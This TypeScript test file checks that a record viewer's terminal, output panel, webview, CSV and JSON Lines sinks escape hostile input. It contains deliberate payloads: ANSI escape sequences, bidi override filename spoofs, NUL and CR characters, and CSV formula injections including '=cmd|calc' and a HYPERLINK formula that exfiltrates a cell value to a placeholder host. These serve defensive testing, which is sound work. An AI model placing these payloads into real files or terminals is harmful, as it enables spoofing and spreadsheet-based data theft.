// One escaping policy per sink, over the same hostile strings: terminal escapes, bidi controls,
// NUL, CR, formula starters, invalid UTF-8, lone surrogates and timestamps no Date holds. What each
// sink must do: the terminal and the output panel show every control as a visible escape; the
// viewer's page gets bidi controls and lone surrogates as visible escapes (cells also turn controls
// into spaces); CSV text cells never start like a formula; JSON Lines stay lossless JSON.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { RawRecord } from '../../../src/core/clusterAccess';
import { RecordStore } from '../../../src/core/recordsViewer/recordStore';
import { recordDetail } from '../../../src/core/recordsViewer/recordDetail';
import { exportLines } from '../../../src/core/recordsViewer/recordExport';
import { rowsAt } from '../../../src/core/recordsViewer/recordRows';
import { decodeField, showBytes, showRecord, shownField } from '../../../src/core/rendering/decode';
import { recordDocumentLine } from '../../../src/core/rendering/jsonLines';
import { recordJsonLines } from '../../../src/core/rendering/jsonLinesBytes';
import { recordLine, recordPanelLines } from '../../../src/core/rendering/recordLine';
import { escapeForTerminal, jsonForTerminal } from '../../../src/core/rendering/terminalText';
import { detailBytes } from '../../../src/core/rendering/webviewDetail';
import { cellPreview } from '../../../src/core/rendering/webviewText';

const BIDI = ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069'];
const HOSTILE = `\u001b[31mred\u001b]0;title\u0007 \u0000nul \rcr ${BIDI.join('x')} end`;
// eslint-disable-next-line no-control-regex -- control characters are what these tests look for
const TERMINAL_UNSAFE = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
const BIDI_RAW = /[\u202a-\u202e\u2066-\u2069]/;
const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;
// Beyond ±8.64e15 ms a Date is invalid and toISOString throws; a producer may write any int64.
const FAR_FUTURE = 9e15;

const raw = (value: Buffer | string | null, extra: Partial<RawRecord> = {}): RawRecord => ({
  offset: 7,
  timestamp: Date.parse('2026-12-04T00:00:00Z'),
  key: Buffer.from('k'),
  value: typeof value === 'string' ? Buffer.from(value) : value,
  headers: {},
  ...extra,
});

function storeOf(...records: RawRecord[]): RecordStore {
  const store = new RecordStore('hostile');
  store.appendRaw(0, records.map((r, i) => ({ ...r, offset: i })));
  return store;
}

test('decode: the auto format is text for valid UTF-8, binary otherwise; showBytes is its fast path', () => {
  const inputs = [null, Buffer.alloc(0), Buffer.from(HOSTILE), Buffer.from('🙂'), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from([0xc3, 0x28]), Buffer.from([0xf0, 0x9f, 0x99])];
  for (const bytes of inputs) assert.deepEqual(showBytes(bytes), shownField(decodeField(bytes)));
  assert.deepEqual(decodeField(Buffer.from([0xed, 0xa0, 0x80])).kind, 'binary', 'an encoded surrogate is not UTF-8: it stays bytes, never a lone surrogate');
  assert.deepEqual(decodeField(Buffer.from('aé'), { maxBytes: 2 }), { kind: 'text', text: 'a' }, 'a prefix is cut between characters');
});

test('terminal: every control, bidi control and lone surrogate is a visible escape', () => {
  const shown = escapeForTerminal(HOSTILE);
  assert.doesNotMatch(shown, TERMINAL_UNSAFE);
  assert.match(shown, /\\x1b\[31mred\\x1b\]0;title\\x07 \\x00nul \\rcr \\u202ax\\u202bx/);
  assert.equal(escapeForTerminal('a\ud800b\udfffc'), 'a\\ud800b\\udfffc', 'a lone surrogate would print as U+FFFD');
  assert.equal(escapeForTerminal('pair 🙂 kept'), 'pair 🙂 kept');
  assert.doesNotMatch(jsonForTerminal({ v: `${HOSTILE}\ud800` }), TERMINAL_UNSAFE);
  assert.doesNotMatch(jsonForTerminal({ v: '\ud800' }), LONE_SURROGATE);
  assert.deepEqual(JSON.parse(jsonForTerminal({ v: HOSTILE })), { v: HOSTILE }, 'still the same JSON value');
});

test('terminal JSON Lines (the fast byte path): hostile text escaped, invalid UTF-8 as base64, equal to the general path', () => {
  const records = [raw(HOSTILE), raw(Buffer.from([0x7b, 0xc3, 0x28, 0x7d])), raw('=cmd|calc'), raw('x', { timestamp: FAR_FUTURE })];
  const text = recordJsonLines('t', 0, records).toString('utf8');
  for (const line of text.split('\n')) assert.doesNotMatch(line, TERMINAL_UNSAFE);
  assert.equal(text, records.map((r) => `${jsonForTerminal(showRecord('t', 0, r))}\n`).join(''));
  assert.deepEqual((JSON.parse(text.split('\n')[1]) as { value: unknown }).value, { base64: Buffer.from([0x7b, 0xc3, 0x28, 0x7d]).toString('base64') });
});

test('output panel: the text line and its fast path escape the same, and a timestamp no Date holds does not stop the tail', () => {
  const records = [raw(HOSTILE), raw('plain'), raw('x', { timestamp: FAR_FUTURE }), raw('y', { timestamp: -1 }), raw(HOSTILE, { headers: { [`h${BIDI[4]}`]: Buffer.from(HOSTILE) } })];
  const lines = recordPanelLines('t', 3, records);
  assert.deepEqual(lines, records.map((r) => recordLine(showRecord('t', 3, r))));
  for (const line of lines) assert.doesNotMatch(line, TERMINAL_UNSAFE);
  assert.equal(lines[2], '[p3 @7 ?] key=k value=x');
  assert.equal(lines[3], '[p3 @7 ?] key=k value=y');
});

test('webview cells: bidi controls visible, controls as spaces, markup as text, binary as hex', () => {
  const cell = cellPreview(Buffer.from(HOSTILE));
  assert.equal(cell.binary, false);
  assert.doesNotMatch(cell.text, BIDI_RAW, 'a bidi override in a cell would reorder the row around it');
  // eslint-disable-next-line no-control-regex -- control characters are what this test looks for
  assert.doesNotMatch(cell.text, /[\u0000-\u001f]/);
  assert.match(cell.text, /^ \[31mred \]0;title  {2}nul {2}cr \\u202ax\\u202bx\\u202cx\\u202dx\\u202ex\\u2066x\\u2067x\\u2068x\\u2069 end$/);
  assert.equal(cellPreview(Buffer.from('<b onclick=x>')).text, '<b onclick=x>');
  assert.deepEqual(cellPreview(Buffer.from([0xc3, 0x28])), { text: 'c3 28', binary: true });
  const rows = rowsAt(storeOf(raw(`${BIDI[4]}gpj.exe`)), Uint32Array.of(0), 0, 1);
  assert.equal(rows[0].value, '\\u202egpj.exe');
});

test('webview cells: a preview cut at 200 characters never ends in half a surrogate pair', () => {
  const cell = cellPreview(Buffer.from(`${'a'.repeat(199)}🙂${'b'.repeat(50)}`));
  assert.doesNotMatch(cell.text, LONE_SURROGATE);
  assert.equal(cell.text, `${'a'.repeat(199)}…`);
  assert.equal(cellPreview(Buffer.from(`${'a'.repeat(198)}🙂`)).text, `${'a'.repeat(198)}🙂…`, 'a whole pair that fits is kept');
});

test('webview detail: bidi controls visible in the text, the pretty JSON and header names; the JSON still reads the same', () => {
  const json = JSON.stringify({ file: `${BIDI[4]}gpj.exe`, n: 1 });
  const detail = detailBytes(Buffer.from(json));
  assert.equal(detail.kind, 'json');
  assert.doesNotMatch(detail.text, BIDI_RAW);
  assert.doesNotMatch(detail.pretty ?? '', BIDI_RAW);
  assert.deepEqual(JSON.parse(detail.pretty ?? ''), JSON.parse(json), 'the escape is JSON for the same character');
  const text = detailBytes(Buffer.from(HOSTILE));
  assert.equal(text.kind, 'text');
  assert.doesNotMatch(text.text, BIDI_RAW);
  assert.ok(text.text.includes('\u001b[31mred'), 'other characters are the text as it is (set with textContent)');
  const full = recordDetail(storeOf(raw('v', { headers: { [`trace${BIDI[7]}`]: Buffer.from(`id${BIDI[4]}`) } })), 0);
  assert.equal(full.headers[0].name, 'trace\\u2068');
  assert.equal(full.headers[0].value.text, 'id\\u202e');
});

test('webview detail: a truncated text is cut between characters (no U+FFFD that the value does not hold)', () => {
  const value = Buffer.from(`${'x'.repeat(1024 * 1024 - 1)}é and more`);
  const detail = detailBytes(value);
  assert.equal(detail.truncated, true);
  assert.equal(detail.text, 'x'.repeat(1024 * 1024 - 1));
  assert.equal(detailBytes(Buffer.from([0xff, 0xfe])).kind, 'binary');
});

test('CSV: text cells starting with = + - @ tab or CR get a single quote; numbers and ordinary text do not', () => {
  const starters = ['=HYPERLINK("http://x/?"&A1,"ok")', '+1+2', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
  const records = starters.map((value) => raw(value, { key: Buffer.from(value) }));
  records.push(raw('plain', { key: Buffer.from('a=b'), timestamp: -1 }));
  const lines = [...exportLines(storeOf(...records), Uint32Array.from(records.map((_, i) => i)), 'csv')];
  const cells = lines.slice(1).map((line) => line.slice(0, -2));
  assert.equal(cells[0], `0,0,${records[0].timestamp},2026-12-04T00:00:00.000Z,"'=HYPERLINK(""http://x/?""&A1,""ok"")","'=HYPERLINK(""http://x/?""&A1,""ok"")",`);
  assert.equal(cells[1].split(',').slice(4, 6).join(','), "'+1+2,'+1+2");
  assert.equal(cells[2].split(',').slice(4, 6).join(','), "'-2+3,'-2+3");
  assert.equal(cells[3].split(',').slice(4, 6).join(','), "'@SUM(A1),'@SUM(A1)");
  assert.equal(cells[4].split(',').slice(4, 6).join(','), "'\t=1,'\t=1");
  assert.equal(cells[5].split(',').slice(4, 6).join(','), "\"'\r=1\",\"'\r=1\"");
  assert.equal(cells[6], '0,6,-1,,a=b,plain,', 'a negative timestamp is a number, not a formula');
});

test('CSV: binary as base64:, a timestamp no Date holds leaves the time cell empty', () => {
  const lines = [...exportLines(storeOf(raw(Buffer.from([0xc3, 0x28]), { timestamp: FAR_FUTURE })), Uint32Array.of(0), 'csv')];
  assert.equal(lines[1], `0,0,${FAR_FUTURE},,k,base64:wyg=,\r\n`);
});

test('JSON Lines documents: lossless (bidi kept, it is the data), and a timestamp no Date holds is a null time', () => {
  const line = recordDocumentLine(showRecord('t', 0, raw(HOSTILE, { timestamp: FAR_FUTURE })));
  const parsed = JSON.parse(line) as { value: unknown; time: unknown; timestamp: unknown };
  assert.equal(parsed.value, HOSTILE);
  assert.equal(parsed.time, null);
  assert.equal(parsed.timestamp, FAR_FUTURE);
  const jsonl = [...exportLines(storeOf(raw(Buffer.from([0xff]))), Uint32Array.of(0), 'jsonl')];
  assert.deepEqual((JSON.parse(jsonl[0]) as { value: unknown }).value, { base64: '/w==' });
});
